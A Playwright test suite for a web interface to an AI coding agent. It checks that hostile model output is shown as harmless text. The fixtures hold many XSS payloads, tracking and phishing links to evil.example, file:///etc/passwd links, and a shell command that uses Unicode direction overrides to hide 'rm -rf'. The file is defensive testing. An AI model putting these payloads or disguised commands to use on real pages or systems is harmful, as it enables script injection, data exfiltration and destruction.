import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { callAnswer, functionCall, textAnswer } from '../../src/demo/responses.ts';
import {
  answer,
  answers,
  begin,
  chromium,
  log,
  openPageWorld,
  question,
} from '../support/page/page-world.ts';

if (chromium === undefined) console.warn('skipped: hostile output needs chromium on the PATH');

/** Each would set `window.hacked`, or ask a foreign host for something, if the page were to believe it. */
const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1"><img src="https://evil.example/pixel">',
  '<svg><script>window.hacked = 1</script><a xlink:href="javascript:window.hacked=1">x</a></svg>',
  '<svg onload="window.hacked = 1"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><object data="https://evil.example/"></object>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=a><button>Allow once</button></form>',
  '<style>* { display: none }</style><link rel="stylesheet" href="https://evil.example/style.css">',
  '![tracker](https://evil.example/?q=secret)',
  '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](java&#x09;script:window.hacked=1)',
  '[d](data:text/html,<script>window.hacked=1</script>) [e](vbscript:x) [f](vscode://file/etc/passwd) [g](file:///etc/passwd)',
  '[bank.example](https://evil.example/login) <https://user:pass@evil.example:8443/x> [h](//evil.example)',
  '```html\n<script>window.hacked = 1</script>\n```\n',
  '`<img src=x onerror=window.hacked=1>` and &lt;script&gt;window.hacked=1&lt;/script&gt;',
  '| <script>window.hacked=1</script> | `<b>` |\n| --- | ---: |\n| [x](javascript:1) | ![y](https://evil.example/y.png) |\n',
  'access\u202egnp.exe\u202c \u2066isolated\u2069 zero\u200bwidth \u001b[31mred\u001b[0m \u0007bell',
].join('\n\n');

const BOMBS = `${'> '.repeat(3_000)}deep\n\n${'['.repeat(20_000)}\n\n${'*a **b '.repeat(3_000)}\n\n${'- '.repeat(2_000)}x`;

async function expectHarmless(page: Page, complaints: readonly string[]): Promise<void> {
  expect(await page.evaluate('window.hacked')).toBeUndefined();
  expect(complaints).toEqual([]);
  const foreign =
    'script:not([src^="/page/"]), iframe, object, embed, base, form:not(.composer), svg, math, meta[http-equiv]';
  expect(await page.locator(`body :is(${foreign})`).count()).toBe(0);
}

describe.skipIf(chromium === undefined)('SEC-UI-2: in the page, hostile output', { timeout: 60_000 }, () => {
  it('of the model is text: nothing runs, and nothing is asked of another host', async () => {
    const { visit, complaints } = await openPageWorld(() => textAnswer(HOSTILE));
    const page = await visit();
    await begin(page, HOSTILE);
    await answers(page).getByText('bell').waitFor();
    await expectHarmless(page, complaints);
    const text = await answers(page).innerText();
    expect(text).toContain('<script>window.hacked = 1</script>');
    expect(text).toContain('access‹U+202E›gnp.exe‹U+202C›');
    expect(text).toContain('zero‹U+200B›width ␛[31mred');
  });

  it('SEC-UI-5: can link to the web and to mail alone, and says to where', async () => {
    const { visit } = await openPageWorld(() => textAnswer(HOSTILE));
    const page = await visit();
    await begin(page, 'links');
    await answers(page).getByText('bell').waitFor();
    const links = await answers(page)
      .getByRole('link')
      .evaluateAll((found) =>
        found.map((link) => [
          link.getAttribute('href'),
          link.getAttribute('rel'),
          link.getAttribute('target'),
          link.textContent,
        ]),
      );
    const hrefs = links.map(([href]) => href);
    expect(hrefs.filter((href) => !href?.startsWith('https://'))).toEqual([]);
    expect(hrefs).toEqual(
      expect.arrayContaining([
        'https://evil.example/?q=secret',
        'https://evil.example/login',
        'https://user:pass@evil.example:8443/x',
      ]),
    );
    for (const [, rel, target, text] of links) {
      expect([rel, target]).toEqual(['noopener noreferrer', '_blank']);
      expect(text).toMatch(/evil\.example(:8443)?$/);
    }
  });

  it('as a bomb of nested Markdown, or a line of five million characters, leaves the page usable', async () => {
    const lines = [BOMBS, 'x'.repeat(5_000_000)];
    const { visit, complaints } = await openPageWorld(({ index }) => [
      ...textAnswer('').slice(0, 1),
      {
        type: 'response.output_item.done',
        item: {
          type: 'message',
          role: 'assistant',
          content: [{ type: 'output_text', text: lines[index] ?? '' }],
        },
      },
      ...textAnswer('').slice(-1),
    ]);
    const page = await visit();
    await begin(page, 'bombs');
    await answers(page).first().waitFor();
    const field = page.getByRole('textbox', { name: 'Message' });
    await field.waitFor();
    await field.fill('a long line');
    await field.press('Enter');
    await answers(page).nth(1).waitFor();
    await field.fill('still there');
    expect(await field.inputValue()).toBe('still there');
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
    await expectHarmless(page, complaints);
  });

  it('SEC-UI-3: in a question is shown as it is, hidden characters and the end of it too', async () => {
    const script = `echo ${'a'.repeat(6_000)} \u202e# harmless\u202c; <b>rm</b> -rf the-end`;
    const { visit, complaints } = await openPageWorld(
      ({ body }) =>
        body.input.at(-1)?.type === 'function_call_output'
          ? textAnswer('over')
          : callAnswer(
              functionCall('shell', { command: ['bash', '-lc', script], justification: '<i>why</i>' }),
            ),
      { args: ['-c', 'approval_policy="untrusted"', '-c', 'sandbox_mode="danger-full-access"'] },
    );
    const page = await visit({ viewport: { width: 360, height: 640 } }, '#/new');
    const field = page.getByRole('textbox', { name: 'What is to be done?' });
    await field.fill('do it');
    await field.press('Enter');
    await question(page).waitFor();
    const shown = await question(page).innerText();
    expect(shown).toContain('‹U+202E›# harmless‹U+202C›; <b>rm</b> -rf the-end');
    const end = question(page).getByRole('listitem').last();
    expect(await end.evaluate((element) => element.scrollHeight <= element.clientHeight + 1)).toBe(true);
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
    await answer(page, 'Deny');
    await answers(page).getByText('over').waitFor();
    await expectHarmless(page, complaints);
  });

  it('of a command, in file names and in diffs is text as well', async () => {
    const patch = `*** Begin Patch\n*** Add File: <img src=x onerror=window.hacked=1>.html\n+<script>window.hacked = 1</script>\n+\u202eturned\n*** End Patch`;
    const output = `printf '<script>window.hacked=1</script>\\033[31mred\\033[0m\\n12%%\\r100%%\\n'`;
    const { visit, complaints } = await openPageWorld(({ body, index }) => {
      if (index === 0) return callAnswer(functionCall('shell', { command: ['bash', '-c', output] }, 'one'));
      if (index === 1) return callAnswer(functionCall('shell', { command: ['apply_patch', patch] }, 'two'));
      return textAnswer(`over after ${body.input.length}`);
    });
    const page = await visit();
    await begin(page, 'files');
    await answers(page).getByText('over').waitFor();
    expect(await log(page).getByRole('region', { name: 'Output' }).innerText()).toBe(
      '<script>window.hacked=1</script>red\n100%\n',
    );
    const changes = await log(page).getByRole('region', { name: 'Patch' }).innerText();
    expect(changes).toContain('<img src=x onerror=window.hacked=1>.html');
    expect(changes).toContain('+<script>window.hacked = 1</script>');
    expect(changes).toContain('‹U+202E›turned');
    await expectHarmless(page, complaints);
  });
});
